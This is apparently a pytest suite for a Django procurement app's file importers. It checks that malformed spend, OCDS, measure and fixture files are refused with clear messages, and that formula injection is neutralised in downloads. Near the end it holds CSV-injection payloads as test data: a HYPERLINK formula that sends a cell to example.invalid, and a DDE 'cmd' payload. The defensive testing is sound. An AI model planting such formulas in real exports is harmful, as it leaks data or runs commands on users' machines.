"""Every file in tests/data/bad/ is refused with a message naming the problem, writing nothing.

Each file goes through the command an officer would run: `import_spend`, `import_ocds`,
`import_measures`, or `loaddata` for fixtures (chosen by the file's folder). The message must
hold the expected text and, where the problem is on a line, name that line; every table's row
count must be the same afterwards. A new file in tests/data/bad/ is picked up by the glob and
fails until it has an entry in EXPECTED. Files named formula_* are not refused: a formula is
imported as written and neutralised in every download, which the tests at the end check.
See tests/data/bad/README.md for what is wrong with each file.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook

from core.csv_export import FORMULA_STARTS
from procurement.importers.ocds import import_ocds_file
from procurement.importers.spend import RowError, import_spend_file
from procurement.models import SpendTransaction, Supplier
from procurement.views.spend_dashboard import CSV_TABLES
from socialvalue.models import Measure
from tests.procurement.factories import ContractFactory
from tests.socialvalue.factories import verified_line
from tests.tables import table_counts

pytestmark = pytest.mark.django_db

DATA = Path(__file__).resolve().parent / "data"
BAD = DATA / "bad"
COMMANDS = {
    "spend": "import_spend",
    "ocds": "import_ocds",
    "measures": "import_measures",
    "fixtures": "loaddata",
}
# A message that echoes a 200 KB value is no use on a page or a terminal.
LONGEST_MESSAGE = 1000


@dataclass(frozen=True)
class Expect:
    problem: str | tuple[str, ...]  # text the message must hold (all of it, on one line)
    line: int | None = None  # the line the message must name, where the problem has one
    refused: bool = True  # False: the command succeeds, says why nothing was done
    bug: str = ""  # a known defect: the test is expected to fail until it is fixed

    @property
    def texts(self) -> tuple[str, ...]:
        return (self.problem,) if isinstance(self.problem, str) else self.problem


EXPECTED: dict[str, Expect] = {
    # -- spend (import_spend) --
    "spend/empty.csv": Expect("The file is empty"),
    "spend/only_bom.csv": Expect("The file is empty"),
    "spend/png_image.csv": Expect("The file contains binary data"),
    "spend/excel_workbook.csv": Expect("The file is an Excel workbook, not a CSV file"),
    "spend/nul_bytes.csv": Expect("The file contains binary data (a NUL byte on line 3)", line=3),
    "spend/truncated_mid_quote.csv": Expect('opens a quote mark (") that is never closed', line=4),
    "spend/utf16.csv": Expect('The file is saved as UTF-16 ("Unicode text")'),
    "spend/utf16_no_bom.csv": Expect(
        'The file is saved as UTF-16 ("Unicode text") without a byte order mark'
    ),
    "spend/latin1_undefined_byte.csv": Expect(
        ("neither UTF-8 nor Windows-1252", "byte 0x81"), line=3
    ),
    "spend/semicolon_delimited.csv": Expect("The file looks semicolon-delimited"),
    "spend/tab_delimited.csv": Expect("The file looks tab-delimited"),
    "spend/pipe_delimited.csv": Expect("The file looks pipe-delimited"),
    "spend/header_only.csv": Expect("The file has a header row but no data rows"),
    "spend/duplicate_header_column.csv": Expect('has the column "Date" twice', line=1),
    "spend/no_recognisable_header.csv": Expect("No header row was found in the first 10 lines"),
    "spend/huge_field.csv": Expect(("field larger than field limit", "check that line"), line=3),
    "spend/amount_1e15.csv": Expect('amount "1e15" is not a number', line=4),
    "spend/amount_12abc.csv": Expect('amount "12abc" is not a number', line=4),
    "spend/amount_nan.csv": Expect('amount "NaN" is not a number', line=4),
    "spend/amount_infinity.csv": Expect('amount "Infinity" is not a number', line=4),
    "spend/amount_quadrillion.csv": Expect(
        'amount "1000000000000000.00" is more than £1,000,000,000', line=4
    ),
    "spend/date_31_february.csv": Expect('date "31/02/2024" is not a real date', line=4),
    "spend/date_month_13.csv": Expect('date "00/13/2024" is not a real date', line=4),
    "spend/date_year_1066.csv": Expect('date "14/10/1066" is before 2000', line=4),
    # -- OCDS (import_ocds): a problem in a release names the release, not a line --
    "ocds/empty.json": Expect("The file is empty."),
    "ocds/not_json.json": Expect("The file is not valid JSON: Expecting value", line=1),
    "ocds/truncated.json": Expect("The file is not valid JSON: Expecting value", line=33),
    "ocds/array_not_package.json": Expect("The file is JSON but not an OCDS package"),
    "ocds/no_releases.json": Expect(
        "The package has no releases, so there was nothing to import.", refused=False
    ),
    "ocds/deeply_nested.json": Expect("nested too deeply"),
    "ocds/value_abc.json": Expect(
        "ocds-badinput-0001 (release 1): contracts[0].value.amount is not a number: 'abc'."
    ),
    "ocds/value_negative.json": Expect(
        "(release 1): contracts[0].value.amount must be between 0 and £1,000,000,000,000: -18500."
    ),
    "ocds/value_1e30.json": Expect(
        "(release 1): contracts[0].value.amount must be between 0 and £1,000,000,000,000: 1E+30."
    ),
    "ocds/end_date_month_13.json": Expect(
        "(release 1): contracts[0].period.endDate is not a date: '2024-13-45'."
    ),
    "ocds/release_date_month_13.json": Expect(
        "Release 1 (ocds-badinput-0001): date is missing or is not a date and time"
    ),
    "ocds/missing_ocid.json": Expect("Release 1 has no ocid, so it is not an OCDS release."),
    "ocds/nan_literal.json": Expect(
        "NaN is not a number JSON allows at line 51, column 23", line=51
    ),
    "ocds/nul_character.json": Expect(
        "ocds-badinput-0001 (release 1): contracts[0].title holds a NUL character (\\u0000)"
    ),
    "ocds/huge_string.json": Expect(
        "… (release 1): ocid: Ensure this value has at most 120 characters (it has 200014)."
    ),
    # -- measures (import_measures) --
    "measures/empty.csv": Expect("the file is empty: it needs a header row", line=1),
    "measures/wrong_header.csv": Expect("the header has no code, goal, description column", line=1),
    "measures/duplicate_code.csv": Expect("BAD-1.1 is repeated from line 2", line=4),
    "measures/negative_proxy_value.csv": Expect("the proxy value must be zero or more", line=3),
    "measures/nul_character.csv": Expect("the description holds a NUL character", line=3),
    # -- fixtures (loaddata: Django's own messages, with the exception it chains) --
    "fixtures/malformed.json": Expect("Expecting ':' delimiter", line=8),
    "fixtures/unknown_model.json": Expect("Invalid model identifier: socialvalue.nosuchmodel"),
    "fixtures/missing_required_field.json": Expect(
        ("Could not load socialvalue.Measure(pk=901)", "goal_id")
    ),
    "fixtures/missing_name.json": Expect("goal_has_name"),
    "fixtures/wrong_pk_type.json": Expect("“nine hundred and one” value must be an integer"),
}


def _relative(path: Path) -> str:
    return path.relative_to(BAD).as_posix()


def _bad_files() -> list[Path]:
    return sorted(path for path in BAD.rglob("*") if path.is_file() and path.name != "README.md")


def _refused_files() -> list:
    params = []
    for path in _bad_files():
        if path.name.startswith("formula_"):
            continue
        expect = EXPECTED.get(_relative(path))
        marks = [pytest.mark.xfail(strict=True, reason=expect.bug)] if expect and expect.bug else []
        params.append(pytest.param(path, marks=marks, id=_relative(path)))
    return params


@pytest.fixture
def existing_rows(db) -> dict[str, int]:
    """Some of everything already imported, so that "unchanged" is not just "still empty"."""
    call_command("loaddata", "socialvalue", verbosity=0)
    assert import_spend_file(DATA / "spend" / "worcestershire_2024_04.csv").status == "imported"
    assert import_ocds_file(DATA / "ocds" / "contracts_finder_releases.json").status == "imported"
    call_command("import_measures", DATA / "measures" / "good.csv", stdout=io.StringIO())
    counts = table_counts()
    assert counts["procurement.SpendTransaction"] and counts["procurement.Contract"]
    return counts


def _run(path: Path) -> tuple[str, BaseException | None]:
    """Run the file's command; return everything it said and the exception it ended with.

    The file's name is taken out of what it said, so that "pipe_delimited.csv: No header
    row" does not pass for a message about delimiters.
    """
    said, error = _said(path)
    return said.replace(str(path), "FILE").replace(path.name, "FILE"), error


def _said(path: Path) -> tuple[str, BaseException | None]:
    out, err = io.StringIO(), io.StringIO()
    command = COMMANDS[path.parent.name]
    try:
        call_command(command, str(path), stdout=out, stderr=err)
    except CommandError as error:
        return "\n".join([out.getvalue(), err.getvalue(), str(error)]), error
    except Exception as error:
        if command != "loaddata":
            raise  # our importers must explain themselves, never crash
        # loaddata raises what went wrong; manage.py prints it with the exception it chains.
        said = [out.getvalue(), err.getvalue(), str(error)]
        if error.__cause__ is not None:
            said.append(str(error.__cause__))
        return "\n".join(said), error
    return "\n".join([out.getvalue(), err.getvalue()]), None


def test_every_bad_file_has_an_expectation_and_every_expectation_a_file():
    files = {_relative(path) for path in _bad_files() if not path.name.startswith("formula_")}

    assert files - EXPECTED.keys() == set(), "add these files to EXPECTED"
    assert EXPECTED.keys() - files == set(), "these files are missing from tests/data/bad/"


def test_the_corpus_has_thirty_files_or_more_covering_every_importer():
    files = _bad_files()

    assert len(files) >= 30
    assert {path.parent.name for path in files} == set(COMMANDS)


def test_the_readme_describes_every_bad_file():
    readme = (BAD / "README.md").read_text(encoding="utf-8")

    missing = [_relative(path) for path in _bad_files() if f"`{_relative(path)}`" not in readme]
    assert missing == []


@pytest.mark.parametrize("path", _refused_files())
def test_a_bad_file_gets_a_message_naming_the_problem_and_writes_nothing(path, existing_rows):
    expect = EXPECTED.get(_relative(path))
    assert expect is not None, f"add {_relative(path)} to EXPECTED"

    said, error = _run(path)

    assert (error is not None) == expect.refused, said
    lines = [line for line in said.splitlines() if all(text in line for text in expect.texts)]
    assert lines, f"no message holds {expect.texts}: {said[:2000]}"
    if expect.line is not None:
        named = re.compile(rf"\bline {expect.line}\b", re.IGNORECASE)
        assert any(named.search(line) for line in lines), said[:2000]
    assert max(len(line) for line in said.splitlines()) <= LONGEST_MESSAGE
    assert table_counts() == existing_rows


# -- 50 MB files, made by the test, with the problem at the very end ------------------------------

FIFTY_MB = 50 * 1024 * 1024
SPEND_HEADER = "Supplier Name,Amount,Date,Expense Area,Expense Type,Transaction Number\n"


def _big_spend_file(path: Path, last_line: bytes) -> int:
    """About 50 MB of good payments and then `last_line`; returns that line's number."""
    names = [f"Supplier {number:03d} Ltd" for number in range(997)]
    block = "".join(
        f"{names[i % 997]},{500 + i % 9000}.{i % 100:02d},{1 + i % 28:02d}/04/2024,"
        f"Adult Services,Residential Care,T{i:07d}\n"
        for i in range(10_000)
    ).encode()
    lines = 1
    with path.open("wb") as stream:
        stream.write(SPEND_HEADER.encode())
        while stream.tell() < FIFTY_MB:
            stream.write(block)
            lines += 10_000
        stream.write(last_line)
    return lines + 1


BAD_AMOUNT = b'Last Supplier Ltd,"12,3x4.00",30/04/2024,Adult Services,Care,LAST\n'
UNDEFINED_BYTE = b"Caf\xe9 \x81 Ltd,600.00,30/04/2024,Adult Services,Care,LAST\n"


def test_a_50_mb_spend_file_with_a_bad_amount_on_its_last_line_is_rejected_naming_it(
    tmp_path, existing_rows
):
    path = tmp_path / "spend-50mb.csv"
    last = _big_spend_file(path, BAD_AMOUNT)
    assert path.stat().st_size > FIFTY_MB

    result = import_spend_file(path)

    assert result.status == "rejected"
    assert result.file_error is None
    assert result.errors == [RowError(last, 'amount "12,3x4.00" is not a number')]
    assert table_counts() == existing_rows


def test_a_50_mb_spend_file_that_turns_unreadable_on_its_last_line_is_rejected(
    tmp_path, existing_rows
):
    path = tmp_path / "spend-50mb.csv"
    _big_spend_file(path, UNDEFINED_BYTE)

    result = import_spend_file(path)

    assert result.status == "rejected"
    assert "neither UTF-8 nor Windows-1252" in result.file_error
    assert table_counts() == existing_rows


def _big_ocds_file(path: Path, last_release: str) -> int:
    """About 50 MB of good releases and then `last_release`; returns that release's number."""
    template = (BAD / "ocds" / "value_abc.json").read_text(encoding="utf-8")
    good = template.replace('"amount": "abc"', '"amount": 18500')
    good = " ".join(good.split())  # one release a line
    good = good[good.index("[") + 1 : good.rindex("]")].strip()
    number = 0
    with path.open("w", encoding="utf-8") as stream:
        stream.write('{"version": "1.1", "releases": [\n')
        while stream.tell() < FIFTY_MB:
            number += 1
            stream.write(good.replace("ocds-badinput-0001", f"ocds-big-{number:06d}") + ",\n")
        stream.write(last_release)
    return number + 1


def test_a_50_mb_ocds_file_with_a_bad_last_release_is_rejected_naming_it(tmp_path, existing_rows):
    path = tmp_path / "ocds-50mb.json"
    bad = '{"ocid": "ocds-big-last", "date": "2025-06-16T14:02:31+01:00", "awards": "none"}'
    last = _big_ocds_file(path, bad + "\n]}\n")

    result = import_ocds_file(path)

    assert result.status == "rejected"
    assert result.errors == [f"ocds-big-last (release {last}): awards must be a list of objects."]
    assert table_counts() == existing_rows


def test_a_50_mb_ocds_file_cut_off_at_the_end_is_rejected_naming_the_line(tmp_path, existing_rows):
    path = tmp_path / "ocds-50mb.json"
    last = _big_ocds_file(path, '{"ocid": "ocds-big-last", "date": ')
    lines = last + 1  # the package's opening line, then a release a line

    result = import_ocds_file(path)

    assert result.status == "rejected"
    assert f"not valid JSON: Expecting value at line {lines}," in result.file_error
    assert table_counts() == existing_rows


# -- formulas: imported as written, neutralised in every download ---------------------------------

FORMULAS = {
    "spend/formula_hyperlink_supplier.csv": '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
    "spend/formula_plus_cmd_supplier.csv": "+cmd|' /C calc'!A0",
    "measures/formula_description.csv": '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
}


def _formula_files(folder: str) -> list:
    paths = sorted((BAD / folder).glob("formula_*"))
    return [pytest.param(path, id=_relative(path)) for path in paths]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _assert_no_live_formula(cells: list[str]) -> None:
    """No cell a spreadsheet would run: text starting with = + - @ has an apostrophe first."""
    live = [
        cell
        for cell in cells
        if cell.startswith(FORMULA_STARTS) and not (cell.startswith("-") and _is_number(cell))
    ]
    assert live == []


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("path", _formula_files("spend"))
def test_a_formula_in_a_spend_file_is_imported_as_written_and_every_download_neutralises_it(
    path, member_client
):
    formula = FORMULAS[_relative(path)]

    call_command("import_spend", str(path), stdout=io.StringIO())

    assert Supplier.objects.filter(name=formula).count() == 1
    assert SpendTransaction.objects.filter(supplier_name=formula).count() == 3
    for slug in CSV_TABLES:
        url = reverse("procurement:spend-csv", args=[slug])
        cells = _csv_cells(member_client.get(url, {"year": 2024}))
        _assert_no_live_formula(cells)
        if slug in {"top-suppliers", "off-contract-suppliers"}:
            assert f"'{formula}" in cells, slug
    cells = _csv_cells(member_client.get(reverse("procurement:spend-flag-csv"), {"year": 2024}))
    _assert_no_live_formula(cells)
    assert f"'{formula}" in cells  # a possible duplicate and a possible split


@pytest.mark.parametrize("path", _formula_files("measures"))
def test_a_formula_in_a_measure_file_is_imported_as_written_and_every_download_neutralises_it(
    path, officer_client
):
    formula = FORMULAS[_relative(path)]
    call_command("import_measures", str(path), stdout=io.StringIO())
    measure = Measure.objects.get(description=formula)
    verified_line(contract=ContractFactory(), measure=measure, quantity=5)

    review_csv = officer_client.get(reverse("socialvalue:review-csv", args=[2024]))
    dashboard_csv = officer_client.get(
        reverse("socialvalue:dashboard-csv"), {"table": "measure", "year": 2024}
    )
    xlsx = officer_client.get(reverse("socialvalue:review-xlsx", args=[2024]))

    for response in (review_csv, dashboard_csv):
        cells = _csv_cells(response)
        _assert_no_live_formula(cells)
        assert f"'{formula}" in cells
    workbook = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    _assert_no_live_formula([cell.value for cell in cells if isinstance(cell.value, str)])
    assert f"'{formula}" in [cell.value for cell in cells]


def test_every_formula_file_has_its_formula_listed():
    files = {_relative(path) for path in _bad_files() if path.name.startswith("formula_")}

    assert files == FORMULAS.keys()
